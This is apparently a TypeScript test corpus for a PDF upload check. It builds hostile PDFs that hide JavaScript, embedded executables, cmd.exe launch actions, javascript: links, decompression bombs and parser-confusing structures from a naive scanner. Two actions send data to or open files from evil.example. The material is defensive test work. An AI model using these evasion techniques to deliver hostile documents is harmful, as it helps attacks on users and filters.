/**
 * The PDF check's corpus: hostile files that readers (poppler) run or unpack, each hidden the ways that got
 * past a check cutting the file at `stream` keywords, and ambiguous files two readers read differently.
 */
import { catalog, CERTIFICATE_PAGE, streamBody, writePdf, type PdfPart } from './pdf-builder';

const JAVASCRIPT = '<< /S /JavaScript /JS (app.alert\\("run"\\)) >>';
const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;

/** Ways to hide objects from a check that skips from a `stream` keyword to the next `endstream`. */
export const HIDINGS: [string, (parts: PdfPart[]) => PdfPart[]][] = [
  ['as they are', (parts) => parts],
  [
    'between comments holding stream and endstream',
    (parts) => [{ text: '% stream\n' }, ...parts, { text: '% endstream\n' }],
  ],
  [
    'between strings holding stream and endstream',
    (parts) => [
      { num: 20, body: '<< /Producer (a stream\n) >>' },
      ...parts,
      { num: 21, body: '<< /Producer (endstream) >>' },
    ],
  ],
];

/** A certificate whose catalog has `catalogExtra` and whose objects from 5 on are `payload` (hidden). */
const certificate = (catalogExtra: string, payload: PdfPart[], hide: (parts: PdfPart[]) => PdfPart[]) =>
  writePdf([{ parts: [catalog(catalogExtra), ...CERTIFICATE_PAGE, ...hide(payload)] }]);

const withXrefStream = (catalogExtra: string, payload: PdfPart[], hide: (parts: PdfPart[]) => PdfPart[]) =>
  writePdf([{ parts: [catalog(catalogExtra), ...CERTIFICATE_PAGE, ...hide(payload)], xrefStream: 9 }]);

/** A page whose opening runs object 5 (innocent names only: /AA, /O). */
const PAGE_WITH_OPEN_ACTION: PdfPart = {
  num: 3,
  body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O 5 0 R >> >>',
};
const pageWithOpenAction = (payload: PdfPart[]): PdfPart[] => [
  catalog(),
  CERTIFICATE_PAGE[0]!,
  PAGE_WITH_OPEN_ACTION,
  CERTIFICATE_PAGE[2]!,
  ...payload,
];

/** [what it carries, a builder for one hiding, what the refusal says]. */
export const ACTIVE_PAYLOADS: [string, (hide: (parts: PdfPart[]) => PdfPart[]) => Buffer, RegExp][] = [
  [
    'JavaScript run on open',
    (hide) => certificate('/OpenAction 5 0 R', [{ num: 5, body: JAVASCRIPT }], hide),
    /JavaScript/,
  ],
  [
    'JavaScript behind #xx-escaped names',
    (hide) =>
      certificate(
        '/OpenAction 5 0 R',
        [{ num: 5, body: '<< /S /J#61vaScript /J#53 (app.alert(1)) >>' }],
        hide,
      ),
    /JavaScript/,
  ],
  [
    'JavaScript in a compressed object stream',
    (hide) => withXrefStream('/OpenAction 5 0 R', [{ num: 6, packed: [{ num: 5, body: JAVASCRIPT }] }], hide),
    /JavaScript/,
  ],
  [
    'JavaScript in additional actions (/AA) of a page',
    (hide) => writePdf([{ parts: pageWithOpenAction(hide([{ num: 5, body: JAVASCRIPT }])) }]),
    /JavaScript/,
  ],
  [
    'an incremental update adding JavaScript run on open',
    (hide) =>
      writePdf([
        { parts: [catalog(), ...CERTIFICATE_PAGE] },
        { parts: hide([catalog('/OpenAction 5 0 R'), { num: 5, body: JAVASCRIPT }]) },
      ]),
    /JavaScript/,
  ],
  [
    'an embedded program',
    (hide) =>
      certificate(
        '/Names 8 0 R',
        [
          { num: 8, body: '<< /EmbeddedFiles 5 0 R >>' },
          { num: 5, body: '<< /Names [(payload.exe) 6 0 R] >>' },
          { num: 6, body: '<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>' },
          { num: 7, body: streamBody('/Type /EmbeddedFile', 'MZ this program cannot be run in DOS mode') },
        ],
        hide,
      ),
    /embedded file/,
  ],
  [
    'a javascript: link',
    (hide) =>
      certificate(
        '/OpenAction 5 0 R',
        [{ num: 5, body: '<< /S /URI /URI (javascript:alert(document.cookie)) >>' }],
        hide,
      ),
    /javascript: link/,
  ],
  [
    'an action that launches a program',
    (hide) => certificate('/OpenAction 5 0 R', [{ num: 5, body: '<< /S /Launch /F (cmd.exe) >>' }], hide),
    /launches a program/,
  ],
  [
    'a decompression bomb in an object stream',
    (hide) =>
      withXrefStream(
        '',
        [
          {
            num: 6,
            packed: [{ num: 5, body: `<< /Padding (${' '.repeat(1)}) >>${' '.repeat(80 * 1024 * 1024)}` }],
          },
        ],
        hide,
      ),
    /does not decompress within limits/,
  ],
];

/** Active content written so that a text search for it misses and a reader still finds it. */
export const DISGUISED_PDFS: [string, Buffer, RegExp][] = [
  ...[
    ['escaped with a backslash', '(java\\script:alert(1))'],
    ['with an octal escape for the colon', '(javascript\\072alert(1))'],
    ['in a hex string', hex('javascript:alert(1)')],
    ['with a tab inside, which browsers drop', '(java\tscript:alert(1))'],
    ['in UTF-16', hex('\xfe\xff' + [...'JavaScript:alert(1)'].map((c) => `\0${c}`).join(''))],
  ].map(([how, uri]): [string, Buffer, RegExp] => [
    `a javascript: link ${how}`,
    certificate('/OpenAction 5 0 R', [{ num: 5, body: `<< /S /URI /URI ${uri} >>` }], (p) => p),
    /javascript: link/,
  ]),
  [
    'a page action (/AA) opening a file on a network share (GoToR)',
    certificate(
      '/OpenAction 5 0 R',
      [{ num: 5, body: '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>' }],
      (p) => p,
    ),
    /opens another file/,
  ],
  [
    'a form that sends its data away (SubmitForm)',
    certificate(
      '/OpenAction 5 0 R',
      [{ num: 5, body: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>' }],
      (p) => p,
    ),
    /sends form data/,
  ],
  [
    'a file carried as an associated file (/AF), without a name tree',
    certificate(
      '/AF [5 0 R]',
      [
        { num: 5, body: '<< /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> /AFRelationship /Data >>' },
        { num: 6, body: streamBody('', 'MZ this program cannot be run in DOS mode') },
      ],
      (p) => p,
    ),
    /embedded file/,
  ],
  [
    'a decompression bomb in the cross-reference stream',
    writePdf([{ parts: [catalog(), ...CERTIFICATE_PAGE], xrefStream: 9, xrefPadding: 80 * 1024 * 1024 }]),
    /does not decompress within limits/,
  ],
];

/** Object 5, JavaScript, written inside stream 6's data, with the cross-reference sending readers there. */
function objectInsideStreamData(): Buffer {
  const hidden = `5 0 obj\n${JAVASCRIPT}\nendobj\n`;
  const build = (offset: number) =>
    writePdf([
      { parts: pageWithOpenAction([{ num: 6, body: streamBody('', hidden) }]), offsets: { 5: offset } },
    ]);
  return build(build(0).indexOf(hidden));
}

/** Object 5 written inside a comment, with the cross-reference sending readers there. */
function objectInsideComment(): Buffer {
  const hidden = `5 0 obj ${JAVASCRIPT} endobj`;
  const build = (offset: number) =>
    writePdf([{ parts: pageWithOpenAction([{ text: `% ${hidden}\n` }]), offsets: { 5: offset } }]);
  return build(build(0).indexOf(hidden));
}

/** Files readers read in more than one way: refused as damaged whatever they hold. */
export const AMBIGUOUS_PDFS: [string, Buffer][] = [
  ['JavaScript inside stream data that the cross-reference points into', objectInsideStreamData()],
  [
    'a stream length given twice',
    certificate(
      '',
      [{ num: 5, body: '<< /Length 0 /Length 12 >>\nstream\nhello world!\nendstream' }],
      (p) => p,
    ),
  ],
  [
    'a stream length that misses endstream',
    certificate('', [{ num: 5, body: '<< /Length 5 >>\nstream\nhello world!\nendstream' }], (p) => p),
  ],
  [
    'a length by reference that disagrees with where endstream is',
    certificate(
      '',
      [
        { num: 5, body: '<< /Length 6 0 R >>\nstream\nhello world!\nendstream' },
        { num: 6, body: '5' },
      ],
      (p) => p,
    ),
  ],
  ['JavaScript inside a comment that the cross-reference points into', objectInsideComment()],
];
